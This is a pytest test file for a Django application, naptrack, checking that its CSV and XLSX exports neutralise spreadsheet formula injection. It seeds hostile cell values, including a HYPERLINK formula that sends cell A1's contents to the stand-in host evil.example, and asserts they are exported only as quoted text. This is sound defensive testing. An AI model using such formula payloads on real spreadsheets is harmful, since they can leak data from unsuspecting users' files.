"""Hostile text never becomes a formula in a spreadsheet naptrack writes (issue 12, finding 1).

Texts that a spreadsheet program would run (`=HYPERLINK(...)`, `=1+1`, `+SUM(A1)`, `-2+3`, `@cmd`,
a leading tab or carriage return) are put into the plan's texts, departments' narratives and
answers and people's names, approved and published; then every CSV and XLSX naptrack writes is
opened: no XLSX holds a formula cell, no CSV cell begins with a formula character (numbers written
as numbers aside), and the texts are there, as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from naptrack.accounts.services import user_create
from naptrack.core.spreadsheets import FORMULA_TRIGGERS, csv_safe
from naptrack.plans.models import Action, Department, Instrument, Note, Objective
from naptrack.reporting import workbook
from tests.conftest import BE, logged_in
from tests.portal_data import as_numbers, fill, new_round, publish

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = [HYPERLINK, "=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=x", "\r=x"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def test_the_csv_rule_quotes_text_and_leaves_numbers_alone():
    assert [csv_safe(text) for text in HOSTILE] == [f"'{text}" for text in HOSTILE]
    assert csv_safe("Kabul") == "Kabul" and csv_safe("") == ""
    # A number written as a number is data: -3 is the figure the file means, and runs nothing.
    assert csv_safe(-3) == -3 and csv_safe(2.5) == 2.5


@pytest.fixture
def hostile_round(plan, coordinator, focal_defence, focal_justice, monkeypatch):
    """The 2014 round, published, with hostile text in the plan, the answers and people's names."""
    line = Action.objects.get(plan=plan, code="21")
    Action.objects.filter(pk=line.pk).update(text_en=HYPERLINK)
    Objective.objects.filter(pk=line.goal.objective_id).update(title_en="-2+3")
    type(line.goal).objects.filter(pk=line.goal_id).update(text_en="+SUM(A1)")
    Instrument.objects.filter(action__plan=plan, action__code="1.a").update(text_en="=1+1")
    Note.objects.create(action=line, text_en="@cmd", position=99)
    Department.objects.filter(code="justice").update(name_en="\t=x")
    for name in ("@cmd", "-2+3"):
        # Audited: their names are cells of the audit trail.
        user_create(actor="tests", username=name, role="reader", password="x" * 20, check_password=False)
    round_ = new_round(plan, coordinator, "annual", 2014)
    fill(round_, "1.a", "justice", focal_justice, coordinator, narrative=HYPERLINK, answers={1: {"text": "=1+1"}})
    fill(round_, "23.a", "defence", focal_defence, coordinator, narrative="+SUM(A1)", answers={1: {"women": 7}})
    fill(round_, "21", "defence", focal_defence, coordinator, narrative="\r=x", answers={2: {"women": 1, "men": 2}})
    as_numbers(plan, "16.a")
    fill(
        round_,
        "16.a",
        "defence",
        focal_defence,
        coordinator,
        narrative="@cmd",
        answers={1: {"value": "-3", "unit": "-2+3", "note": "\t=x"}},
    )
    return publish(round_, coordinator, monkeypatch)


def formula_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts_of(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {
        cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)
    }


def dangerous_csv_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(cell)]


def test_no_spreadsheet_naptrack_writes_holds_a_formula_from_hostile_text(
    hostile_round, anonymous, coordinator, focal_defence
):
    xlsx: dict[str, bytes] = {
        "open data": anonymous.get(f"/open-data/{BE}/annual-2014.xlsx").content,
        "plan export": anonymous.get(reverse("plan-export", args=[BE, "xlsx"])).content,
        "department workbook": workbook.build(round=hostile_round, department=Department.objects.get(code="defence")),
        "justice workbook": workbook.build(round=hostile_round, department=Department.objects.get(code="justice")),
    }
    audit = logged_in(coordinator).get(reverse("audit:event-csv"))
    csvs: dict[str, bytes] = {
        "open data": anonymous.get(f"/open-data/{BE}/annual-2014.csv").content,
        "dictionary": anonymous.get("/open-data/dictionary.csv").content,
        "plan export": anonymous.get(reverse("plan-export", args=[BE, "csv"])).content,
        "audit trail": b"".join(audit.streaming_content),
    }
    archive = zipfile.ZipFile(io.BytesIO(anonymous.get(f"/open-data/{BE}.zip").content))
    for name in archive.namelist():
        if name.endswith(".xlsx"):
            xlsx[name] = archive.read(name)
        elif name.endswith(".csv"):
            csvs[name] = archive.read(name)
    # The archive's CSVs: the plan, the dictionary, the round and the plan's figures.
    assert len(xlsx) == 6 and len(csvs) == 8

    assert {name: formula_cells(data) for name, data in xlsx.items()} == {name: [] for name in xlsx}
    assert {name: dangerous_csv_cells(data) for name, data in csvs.items()} == {name: [] for name in csvs}

    # The texts are there, as text: whole in the workbooks, behind a quote in the CSV files.
    assert {HYPERLINK, "=1+1", "+SUM(A1)", "@cmd", "\t=x"} <= texts_of(xlsx["open data"])
    plan_texts = texts_of(xlsx["plan export"])
    assert HYPERLINK in plan_texts and any(text.startswith("=1+1") for text in plan_texts)
    assert {"+SUM(A1)", "@cmd", "-2+3"} <= texts_of(xlsx["department workbook"])
    assert {HYPERLINK, "=1+1"} <= texts_of(xlsx["justice workbook"])
    rows = list(csv.DictReader(io.StringIO(csvs["open data"].decode("utf-8"), newline="")))
    assert {row["narrative"] for row in rows} >= {f"'{HYPERLINK}", "'+SUM(A1)", "'@cmd"}
    assert "-3" in {row["value"] for row in rows if row["action_code"] == "16.a"}  # a number stays a number
    assert "'@cmd" in csvs["audit trail"].decode("utf-8")


def test_a_workbook_with_hostile_text_reads_back_unchanged(hostile_round, focal_defence):
    """No quote is added in a workbook: what was written reads back as the same text."""
    changes = workbook.parse(workbook.build(round=hostile_round, department=Department.objects.get(code="defence")))
    assert changes.errors == [] and not any(row.touched for row in changes.rows)
    narratives = {row.values.get("narrative") for row in changes.rows if row.first}
    assert {"+SUM(A1)", "@cmd", "=x"} <= narratives  # "\r=x" is stored stripped by the service
